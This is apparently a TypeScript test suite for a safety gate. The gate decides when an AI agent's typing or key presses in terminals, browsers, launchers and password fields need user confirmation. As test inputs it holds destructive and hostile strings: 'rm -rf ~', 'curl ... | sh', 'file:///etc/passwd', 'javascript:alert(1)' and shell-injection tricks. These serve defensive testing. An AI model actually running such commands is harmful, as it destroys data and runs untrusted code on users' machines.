/** Typed text and pressed keys, by where they go. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { GateContext } from '../../../src/safety/risk.ts';
import { english } from '../../../src/words/speak.ts';
import { asks, judgeJson, judgeShell, openTestGate } from '../open-test-gate.ts';

const gate = await openTestGate();
const linux = await openTestGate({ platform: 'linux' });

const type = (text: string, context: GateContext) => judgeJson(gate, { action: 'type', text }, context);
const press = (keys: string, context: GateContext = {}) => judgeJson(gate, { action: 'key', keys }, context);

const TERMINALS = [
  'xterm',
  'XTerm',
  'Terminal',
  'iTerm2',
  'gnome-terminal-server',
  'org.gnome.Terminal',
  'com.apple.Terminal',
  'konsole',
  'kitty',
  'Alacritty',
  'WezTerm',
  'Ghostty',
  'x-terminal-emulator',
  'Hyper',
  'Warp',
  'Script Editor',
];
const LAUNCHERS = ['Spotlight', 'Raycast', 'Alfred'];

describe('in a terminal, text with a line end is a command', () => {
  for (const app of [...TERMINALS, ...LAUNCHERS]) {
    test(app, () => {
      assert.equal(type('rm -rf ~\n', { app }).risk, 'critical');
      assert.equal(type('rm notes\n', { app }).risk, 'high');
      assert.equal(
        asks(type('ls -la\n', { app, typed: '' })),
        LAUNCHERS.includes(app),
        'a launcher opens what it finds',
      );
      assert.notEqual(type('ls -la\n', { app, typed: '' }).risk, 'safe');
      assert.ok(!asks(type('rm -rf ~', { app })), 'nothing runs yet');
      assert.equal(press('Return', { app, typed: 'rm -rf ~' }).risk, 'critical');
      assert.ok(asks(press('cmd+v', { app })));
    });
  }
});

test('what stays harmless in the confined place asks in a terminal, where it has the network', () => {
  for (const line of [
    'lsof -i',
    'lsof -p 12',
    'docker compose ps',
    'docker compose -f a.yml logs',
    'docker-compose top',
    'go doc evil.example/x',
    'go version',
    'rustc --version',
    'node --version',
    'python3 -V',
    'npm ls',
    'gem list',
    'java -version',
    'terraform version',
    'go env GOPATH',
    'go doc',
    'go doc ./x',
  ]) {
    assert.ok(asks(type(`${line}\n`, { app: 'xterm', typed: '' })), line);
    assert.ok(!asks(judgeShell(gate, line)), line);
  }
  for (const line of [
    'lsof -nP -iTCP',
    'lsof -ni :80',
    'docker ps',
    'docker compose ls',
    'go doc net/http',
    'go doc fmt',
  ])
    assert.ok(!asks(type(`${line}\n`, { app: 'xterm', typed: '' })), line);
});

test('text typed piece by piece is judged whole when the line ends', () => {
  assert.equal(type('-rf ~\n', { app: 'xterm', typed: 'rm ' }).risk, 'critical');
  assert.equal(type('\n', { app: 'xterm', typed: 'rm -rf ~' }).risk, 'critical');
  assert.equal(type(' | sh\n', { app: 'xterm', typed: 'curl http://x.y' }).risk, 'critical');
  assert.ok(!asks(type(' -la\n', { app: 'xterm', typed: 'ls' })));
});

test('several lines are all judged', () => {
  assert.ok(asks(type('ls\nrm x\n', { app: 'xterm' })));
  assert.ok(asks(type('ls\nrm x\nls', { app: 'xterm' })));
  assert.ok(asks(type('ls\r\nrm x\r\n', { app: 'xterm' })));
  assert.ok(asks(type('ls\rrm x\r', { app: 'xterm' })));
  assert.ok(!asks(type('ls\npwd\n', { app: 'xterm' })));
});

test('whatever ends a line counts as Enter', () => {
  for (const keys of [
    'Return',
    'enter',
    'KP_Enter',
    'kp_enter',
    'ctrl+m',
    'ctrl+j',
    'Control+M',
    'control+j',
    '⏎',
    'shift+Return',
    'ctrl+Return',
    'Linefeed',
    'ctrl+o',
    'NumpadEnter',
    'ctrl + m',
    'CTRL+J',
  ]) {
    assert.equal(
      press(keys, { app: 'xterm', typed: 'rm -rf /' }).risk === 'safe' ||
        !asks(press(keys, { app: 'xterm', typed: 'rm -rf /' })),
      false,
      keys,
    );
  }
  assert.equal(
    judgeJson(gate, { action: 'hold_key', keys: 'Return', seconds: 1 }, { app: 'xterm', typed: 'rm -rf /' }).risk,
    'critical',
  );
});

test('Enter in a terminal asks when nobody knows what stands there', () => {
  assert.ok(asks(press('Return', { app: 'xterm' })));
  assert.ok(asks(press('Return', { app: 'xterm', typed: '' })), 'history may have filled the line');
  assert.ok(asks(press('Return', { app: 'xterm', typed: '\u0000' })), 'the loop marks unknown text so');
  assert.ok(asks(type('ls\n', { app: 'xterm', typed: '\u0000' })));
  assert.ok(!asks(press('Return', { app: 'xterm', typed: 'ls -la' })));
});

test('what another shell than bash reads differently asks', () => {
  for (const text of [
    'ls # look\n',
    'ls !rm\n',
    '!!\n',
    '^ls^rm\n',
    'ls =rm\n',
    "cat <<'E'\nrm x\nE\n",
    "echo 'a\nrm x\n'\n",
    "echo '$(rm x)'\n",
    'ls *(e:rm:)\n',
    'cat /etc/pa\t\n',
    'ls `rm x`\n',
    '~/x\n',
    '=ls\n',
    "echo 'a\\' 'b; rm x #'\n",
    'rustc --version\n',
  ]) {
    assert.ok(asks(type(text, { app: 'Terminal' })), JSON.stringify(text));
  }
});

test('keys that recall or change a command line ask', () => {
  for (const keys of [
    'Up',
    'ctrl+r',
    'ctrl+p',
    'Tab',
    'alt+.',
    'ctrl+y',
    'ctrl+x',
    'ctrl+d',
    'shift+Insert',
    'ctrl+shift+v',
    'cmd+v',
    'ctrl+v',
  ]) {
    assert.ok(asks(press(keys, { app: 'xterm', typed: '' })), keys);
  }
  for (const keys of ['ctrl+c', 'ctrl+l', 'Page_Up', 'Escape'])
    assert.ok(!asks(press(keys, { app: 'xterm', typed: '' })), keys);
  for (const keys of ['Left', 'Home', 'BackSpace']) assert.ok(asks(press(keys, { app: 'xterm', typed: 'ls' })), keys);
});

test('the middle button pastes into a terminal', () => {
  const click = { action: 'click', target: { x: 1, y: 2 }, button: 'middle' };
  assert.ok(asks(judgeJson(gate, click, { app: 'xterm', element: { name: 'line', role: 'terminal' } })));
  assert.ok(asks(judgeJson(gate, click, { element: { name: 'Article' } })), 'an unknown application could be one');
});

test('a terminal is told by its role or its title too', () => {
  assert.equal(type('rm -rf ~\n', { app: 'Code', element: { role: 'terminal', name: 'Terminal 1' } }).risk, 'critical');
  assert.equal(type('rm -rf ~\n', { window: 'alice@mac: ~' }).risk, 'critical');
  assert.equal(type('rm -rf ~\n', { window: 'alice — -zsh — 80×24' }).risk, 'critical');
});

test('Enter after text asks wherever it may send or run, and in an unknown application', () => {
  assert.ok(asks(press('Return', { typed: 'hello' })));
  assert.ok(asks(type('hello\n', {})));
  for (const app of ['Google Chrome', 'Messages', 'Mail', 'Discord', 'Visual Studio Code', 'Finder', 'Something New']) {
    assert.ok(asks(press('Return', { app, typed: 'hello' })), app);
    assert.ok(asks(type('hello\n', { app })), app);
  }
});

test('a new line in an editor is only that', () => {
  for (const app of ['TextEdit', 'Mousepad', 'gedit', 'Notes', 'LibreOffice Writer']) {
    assert.ok(!asks(type('one\ntwo\n', { app, window: 'Untitled' })), app);
    assert.ok(!asks(press('Return', { app, window: 'notes.txt', typed: 'one' })), app);
  }
  assert.ok(asks(press('Return', { app: 'Mousepad', window: 'Save As', typed: 'x' })), 'a dialog has a default button');
  assert.ok(asks(press('Return', { app: 'TextEdit', window: 'x', element: { role: 'button', name: 'Delete' } })));
});

test('typing without a line end runs anywhere but in a password field', () => {
  assert.equal(type('hello', {}).risk, 'moderate');
  assert.equal(type('hello', { app: 'Safari' }).risk, 'moderate');
  assert.equal(type('hunter2', { app: 'Safari', element: { role: 'password text', secure: true } }).risk, 'high');
  assert.equal(
    judgeJson(gate, { action: 'set_value', element: 1, text: 'x' }, { element: { secure: true } }).risk,
    'high',
  );
  assert.ok(asks(press('a', { element: { secure: true } })));
  assert.ok(asks(type('x', { app: '1Password 8' })));
});

test('control characters are keys in disguise', () => {
  for (const char of ['\u0003', '\u001b', '\u0016', '\u0000', '\u007f', '\u009b'])
    assert.ok(asks(type(`a${char}b`, { app: 'Safari' })));
});

test('the address bar takes addresses and searches', () => {
  const bar = { app: 'Google Chrome', element: { role: 'entry', name: 'Address and search bar' } };
  assert.ok(!asks(type('wikipedia.org\n', { ...bar, goal: 'open wikipedia.org' })));
  assert.ok(asks(type('evil.example/steal\n', { ...bar, goal: 'open wikipedia.org' })));
  assert.equal(press('Return', { ...bar, typed: 'javascript:alert(1)' }).risk, 'critical');
  assert.ok(!asks(press('Return', { ...bar, typed: 'weather berlin', goal: 'what is the weather in Berlin?' })));
  assert.ok(asks(press('Return', { ...bar, typed: 'my password is hunter2', goal: 'what is the weather in Berlin?' })));
});

describe('these combinations ask wherever they are pressed', () => {
  const everywhere = [
    'cmd+shift+delete',
    'cmd+shift+backspace',
    'cmd+option+shift+backspace',
    'cmd+option+escape',
    'cmd+shift+q',
    'cmd+option+shift+q',
    'ctrl+cmd+q',
    'control+command+q',
    'ctrl+alt+delete',
    'ctrl+alt+backspace',
    'ctrl+alt+F1',
    'ctrl+alt+f7',
    'alt+F4',
    'ctrl+alt+l',
    'shift+delete',
    'cmd+option+w',
    'cmd+space',
    'alt+f2',
    'ctrl+shift+delete',
    'XF86PowerOff',
    'Power',
    'XF86Sleep',
    'ctrl+shift+power',
    'ctrl+shift+eject',
    'alt+sysrq+b',
    'ctrl+alt+End',
    'cmd+option+i',
    'ctrl+shift+j',
    'F12',
    'cmd+Return',
    'ctrl+Return',
    'ctrl+x ctrl+e',
    '⌘⇧⌫',
    'Super_L+Shift+q',
    'Meta+Shift+Q',
  ];
  for (const keys of everywhere) {
    test(keys, () => {
      for (const context of [{}, { app: 'Safari' }, { app: 'xterm', typed: '' }, { app: 'TextEdit' }])
        assert.ok(asks(press(keys, context)));
    });
  }
});

test('Super+L locks a Linux desktop; on a Mac it is the address bar', () => {
  assert.ok(asks(judgeJson(linux, { action: 'key', keys: 'super+l' }, { app: 'firefox' })));
  assert.ok(!asks(press('cmd+l', { app: 'Safari' })));
});

test('everyday keys do not ask', () => {
  for (const keys of [
    'cmd+s',
    'cmd+c',
    'cmd+a',
    'cmd+z',
    'cmd+t',
    'Escape',
    'Tab',
    'Page_Down',
    'Down',
    'cmd+f',
    'ctrl+f',
    'F5',
    'cmd+w',
    'ctrl+plus',
    'a',
    'space',
  ]) {
    assert.ok(!asks(press(keys, { app: 'Safari', window: 'News' })), keys);
  }
});

test('Space and Enter on a button press it', () => {
  const buy = { app: 'Safari', element: { role: 'button', name: 'Buy now' } };
  assert.ok(asks(press('space', buy)));
  assert.ok(asks(press('Return', buy)));
  assert.ok(!asks(press('space', { app: 'Safari', element: { role: 'button', name: 'Show more' } })));
});

test('Delete in a file manager or a mailbox can delete', () => {
  for (const app of ['Finder', 'Nautilus', 'Mail']) assert.ok(asks(press('Delete', { app })), app);
});

test('a blank presses what has the focus: on a button it is a click, after keys that moved the focus it asks', () => {
  const page = { app: 'Chromium', window: 'Shop', typed: '' };
  const judge = (text: string, context: object) => judgeJson(gate, { action: 'type', text }, { ...page, ...context });
  assert.ok(!asks(judge('hello there', {})));
  for (const role of ['button', 'item', 'row', 'link', 'group']) {
    assert.ok(asks(judge('hello there', { element: { role, name: 'Delete account' } })), role);
    assert.ok(
      asks(judgeJson(gate, { action: 'key', keys: 'space' }, { ...page, element: { role, name: 'Delete account' } })),
    );
  }
  assert.ok(asks(judge('hello there', { isFocusMoved: true })));
  assert.ok(asks(judgeJson(gate, { action: 'key', keys: 'space' }, { ...page, isFocusMoved: true })));
  assert.ok(!asks(judge('hello', { isFocusMoved: true })));
  assert.ok(!asks(judge('hello there', { element: { role: 'field', name: 'Search' } })));
});

test('keys that run or build a project or a script ask', () => {
  for (const keys of ['F5', 'ctrl+F5', 'ctrl+shift+b', 'cmd+shift+b', 'cmd+r', 'cmd+b', 'shift+F10'])
    assert.ok(asks(press(keys, { app: 'Visual Studio Code', window: 'a.ts' })), keys);
  assert.ok(asks(press('cmd+r', { app: 'Script Editor', window: 'Untitled' })));
  assert.ok(!asks(press('cmd+r', { app: 'Safari', window: 'News' })));
  assert.ok(!asks(press('F5', { app: 'Firefox', window: 'News' })));
});

test('where the program in a terminal obeys single letters, text asks', () => {
  for (const window of ['alice — vim notes.txt — 80×24', 'notes.txt (~) - VIM', 'htop', 'less a.log'])
    assert.ok(asks(type('ZZ', { app: 'Terminal', window })), window);
  for (const window of ['alice — -zsh — 80×24', 'alice@box: ~/vim', '~/Projects/top-secret'])
    assert.ok(!asks(type('ls', { app: 'Terminal', window })), window);
});

describe('where a terminal may be waiting for one key, a single one is judged like Enter', () => {
  for (const app of TERMINALS) {
    test(app, () => {
      for (const key of ['y', 'Y', 'k', '!', '1', 'd', 'space']) {
        assert.equal(press(key, { app, typed: '' }).risk, 'high', key);
        assert.ok(asks(press(key, { app })), `${key}, and nobody knows what stands there`);
        assert.ok(asks(press(key, { app, typed: 'ls\u0000' })), `${key}, after a key that nobody can follow`);
      }
      assert.ok(asks(type('y', { app, typed: '' })));
      assert.ok(asks(type('y', { app, typed: 'q' })), 'what came before was a single key too');
      assert.ok(asks(judgeJson(gate, { action: 'hold_key', keys: 'y', seconds: 1 }, { app, typed: '' })));
    });
  }
  test('a command is typed without a question, and so is a letter more of it', () => {
    assert.ok(!asks(type('ls -la', { app: 'Terminal', typed: '' })));
    assert.ok(!asks(type('l', { app: 'Terminal', typed: 'ls -' })));
    assert.ok(!asks(type('w\n', { app: 'Terminal', typed: '' })), 'with its Enter it is a command, judged as one');
    assert.ok(asks(type('y\n', { app: 'Terminal', typed: '' })));
    for (const app of [...LAUNCHERS, 'TextEdit', 'Safari']) assert.ok(!asks(type('y', { app, typed: '' })), app);
    assert.ok(asks(press('y', { window: 'alice@mac: ~', typed: '' })), 'a terminal by its title');
  });
});

test('in a list of files the keys that open what is selected ask', () => {
  for (const keys of ['cmd+o', 'cmd+down', 'ctrl+o', 'alt+down']) {
    assert.ok(asks(press(keys, { app: 'Finder', window: 'Downloads' })), keys);
    assert.ok(!asks(press(keys, { app: 'TextEdit', window: 'a.txt' })), keys);
  }
});

test('a value for a button or a switch counts as a click on it', () => {
  const set = (role: string, name: string, app = 'Safari') =>
    judgeJson(gate, { action: 'set_value', element: 3, text: '1' }, { app, element: { role, name } });
  assert.ok(asks(set('check box', 'I agree to pay')));
  assert.ok(asks(set('AXButton', 'Buy now')));
  assert.ok(asks(set('switch', 'Firewall', 'System Settings')));
  assert.ok(!asks(set('text field', 'Search')));
  assert.ok(!asks(set('slider', 'Zoom')));
});

test('pasting into a page asks unless this run wrote what is pasted: it may be a password', () => {
  const page = { app: 'Safari', window: 'News', element: { role: 'text field', name: 'Comment' } };
  assert.ok(asks(press('cmd+v', page)));
  assert.ok(!asks(press('cmd+v', { ...page, isClipboardOurs: true })));
  assert.ok(!asks(press('cmd+v', { app: 'TextEdit', window: 'a.txt' })), 'an editor keeps it here');
  assert.ok(asks(judgeJson(gate, { action: 'click', target: { x: 1, y: 1 }, button: 'middle' }, page)));
});

describe('what needs no question on a page', () => {
  const page = { app: 'Chromium', window: 'Order', address: 'https://shop.example/order', typed: '' };
  const onLinux = (action: Readonly<Record<string, unknown>>, context: GateContext) =>
    judgeJson(linux, action, { ...page, ...context });
  const area = (name: string, more: GateContext = {}) => ({ element: { role: 'text area', name }, ...more });

  test('lines within a text for an area of several lines; Enter at its end asks', () => {
    const text = 'Dear Ada,\nall is well.';
    assert.ok(!asks(onLinux({ action: 'type', text }, area('Remarks'))));
    assert.ok(asks(onLinux({ action: 'type', text: `${text}\n` }, area('Remarks'))));
    assert.ok(asks(onLinux({ action: 'type', text }, { element: { role: 'field', name: 'Remarks' } })));
    assert.ok(asks(onLinux({ action: 'type', text }, {})), 'nobody knows what has the focus');
    for (const name of ['', 'Terminal input', 'SQL console', 'Command line'])
      assert.ok(asks(onLinux({ action: 'type', text: 'ls\nrm x' }, area(name))), name);
    for (const window of ['ada@cloud: ~', 'Cloud Shell'])
      assert.ok(asks(onLinux({ action: 'type', text: 'ls\nrm x' }, area('Text', { window }))), window);
    assert.ok(asks(onLinux({ action: 'type', text }, area('Text', { app: 'Something New' }))), 'no page');
  });

  test('Enter in a list of choices that takes no text; what its name does asks as a click does', () => {
    const list = (name: string, more: object = {}) => ({ element: { role: 'combo box', name, ...more } });
    const enter = { action: 'key', keys: 'Return' };
    assert.ok(!asks(onLinux(enter, list('Country', { choice: true }))));
    assert.ok(!asks(onLinux(enter, list('', { choice: true }))));
    assert.ok(asks(onLinux(enter, list('Pay with', { choice: true }))));
    assert.ok(asks(onLinux(enter, list('Country'))), 'one that takes text may send its form');
    assert.ok(asks(onLinux(enter, list('Country', { choice: false }))));
  });

  test('what was copied on a page of the same origin is pasted', () => {
    const paste = { action: 'key', keys: 'ctrl+v' };
    const field = { element: { role: 'field', name: 'Second' } };
    const from = (address: string) => onLinux(paste, { ...field, copiedIn: { app: 'Chromium', address } });
    assert.ok(!asks(from('https://shop.example/cart')));
    for (const address of ['http://shop.example/cart', 'https://shop.example.evil.example/', 'file:///etc/passwd', ''])
      assert.ok(asks(from(address)), address);
    assert.ok(asks(onLinux(paste, { ...field, copiedIn: { app: 'Chromium' } })));
    assert.ok(asks(onLinux(paste, field)));
    const local = { address: 'file:///home/ada/a.html', copiedIn: { address: 'file:///home/ada/b.html' } };
    assert.ok(asks(onLinux(paste, { ...field, ...local })), 'files share no origin');
    assert.ok(
      asks(
        onLinux(paste, {
          element: { role: 'password field', name: 'PIN', secure: true },
          copiedIn: { address: page.address },
        }),
      ),
    );
  });
});

describe('what reads the keys of a terminal, and what stands in its line, must be known', () => {
  const app = 'xterm';
  const readers: readonly NonNullable<GateContext['terminal']>[] = [
    { reader: 'other', isLineKnown: true },
    { reader: 'unknown', isLineKnown: true },
    { reader: 'shell', isLineKnown: false },
  ];
  for (const terminal of readers)
    test(JSON.stringify(terminal), () => {
      assert.ok(asks(judgeJson(gate, { action: 'type', text: 'ls -la\n' }, { app, typed: '', terminal })));
      assert.ok(asks(judgeJson(gate, { action: 'key', keys: 'Return' }, { app, typed: 'ls -la', terminal })));
      const dangerous = { app, typed: 'rm -rf ~', terminal };
      assert.equal(judgeJson(gate, { action: 'key', keys: 'Return' }, dangerous).risk, 'critical');
      assert.ok(
        asks(judgeJson(gate, { action: 'key', keys: 'Return' }, { window: 'ada@mac: ~', typed: 'ls', terminal })),
      );
    });

  test('text for another program than a shell asks, also without Enter', () => {
    for (const reader of ['other', 'unknown'] as const)
      assert.ok(
        asks(
          judgeJson(gate, { action: 'type', text: 'dd' }, { app, typed: '', terminal: { reader, isLineKnown: true } }),
        ),
      );
    assert.ok(!asks(judgeJson(gate, { action: 'type', text: 'ls -' }, { app, typed: '' })));
  });

  test('nothing known of the terminal is not a shell', () => {
    assert.ok(asks(gate.judge({ action: 'type', text: 'ls\n' }, { app, typed: '' })));
  });

  test('of a line that may be all, or only what came last, the worse counts', () => {
    const enter = { action: 'key', keys: 'Return' };
    assert.equal(judgeJson(gate, enter, { app, typed: 'echo rm -rf ~', typedSince: 'rm -rf ~' }).risk, 'critical');
    assert.equal(judgeJson(gate, enter, { app, typed: 'rm -rf ~ # ls', typedSince: ' ls' }).risk, 'critical');
    assert.equal(
      judgeJson(gate, { action: 'type', text: ' -rf ~\n' }, { app, typed: 'echo rm', typedSince: 'rm' }).risk,
      'critical',
    );
  });
});

test('a bar that a browser calls no more than Address opens an address that was named, and nothing else', () => {
  const enter = (typed: string, more: GateContext = {}) =>
    press('Return', {
      ...{ app: 'Firefox', window: 'Shop', address: 'https://shop.example/', goal: 'open docs.python.org in Firefox' },
      ...{ typed, element: { role: 'field', name: 'Address' } },
      ...more,
    });
  assert.equal(enter('docs.python.org').risk, 'moderate');
  assert.equal(enter('https://docs.python.org/3/').risk, 'moderate');
  for (const typed of ['Main Street 5', 'evil.example/x', 'docs.python.org and more', 'mailto:a@docs.python.org', ''])
    assert.ok(asks(enter(typed)), typed);
  assert.ok(asks(enter('docs.python.org', { app: 'Slack' })), 'only in a browser');
  assert.ok(asks(enter('docs.python.org', { element: { role: 'field', name: 'Shipping address' } })));
});

test('quotes that are closed again on a command line say nothing of further lines', () => {
  const shell: GateContext = { app: 'xterm', typed: '', terminal: { reader: 'shell', isLineKnown: true } };
  assert.ok(!asks(judgeJson(linux, { action: 'type', text: 'find . -name "*.py"\n' }, shell)));
  for (const text of ['echo "a\nrm -rf b"\n', 'echo "a\n', "cat 'x\ny'\n"])
    assert.ok(asks(judgeJson(linux, { action: 'type', text }, shell)), text);
});

test('text for a field that is only read to be for a password asks, as for one that is told to be', () => {
  const into = (name: string) =>
    english(type('hunter2', { app: 'Chromium', window: 'Sign in', element: { role: '', name, isRead: true } }).reason);
  for (const name of ['Password', 'Your password:', 'Kennwort', 'PIN', 'パスワード', 'Secret word'])
    assert.match(into(name), /password field/, name);
  for (const name of ['Full name', 'Pinterest', 'Passenger', 'Secretary'])
    assert.doesNotMatch(into(name), /password field/, name);
});
